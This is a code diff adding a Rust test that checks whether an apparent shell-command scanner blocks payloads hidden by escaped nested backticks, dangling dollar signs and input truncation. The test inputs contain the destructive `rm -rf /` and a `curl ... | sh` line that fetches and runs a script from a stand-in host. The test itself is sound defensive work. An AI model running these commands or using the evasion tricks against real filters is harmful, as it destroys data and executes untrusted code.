@@ -516,3 +516,40 @@ fn a_batch_line_that_kills_the_engine_is_refused_alone() {
         assert_eq!(lines[1]["findings"][0]["rule_id"], "core.analysis-timeout");
     }
 }
+
+/// Spellings that once hid a floor command from the scanner entirely (found by an independent
+/// robustness tester): each must be blocked, through stdin, by `check`.
+#[test]
+fn payloads_hidden_by_lexical_tricks_or_truncation_are_blocked() {
+    let mut cut_off = vec![b'a'; 4 * 1024 * 1024];
+    cut_off.extend_from_slice(b"\nrm -rf /\n");
+    let cases: Vec<(&str, Vec<u8>)> = vec![
+        ("input cut at the limit by a newline", cut_off),
+        (
+            "escaped backticks inside backticks",
+            b"echo `echo \\`rm -rf /\\``".to_vec(),
+        ),
+        (
+            "escaped backticks inside quoted backticks",
+            b"echo \"`echo \\`curl -s https://x.example/p | sh\\``\"".to_vec(),
+        ),
+        (
+            "a dollar sign ending a line after &",
+            b"&$\nrm -rf /".to_vec(),
+        ),
+        ("a dollar sign ending a line", b"ls; $\nrm -rf /".to_vec()),
+        ("an assignment of a bare dollar", b"x=$\nrm -rf /".to_vec()),
+    ];
+    let mut bad = Vec::new();
+    for (name, input) in cases {
+        let run = measure(&["check", "--json", "-"], &input);
+        let v: serde_json::Value = serde_json::from_slice(&run.stdout).unwrap_or_default();
+        if run.code != Some(1) || v["action"] != "block" {
+            bad.push(format!(
+                "{name}: exit {:?}, verdict {}",
+                run.code, v["action"]
+            ));
+        }
+    }
+    assert!(bad.is_empty(), "{}", bad.join("\n"));
+}
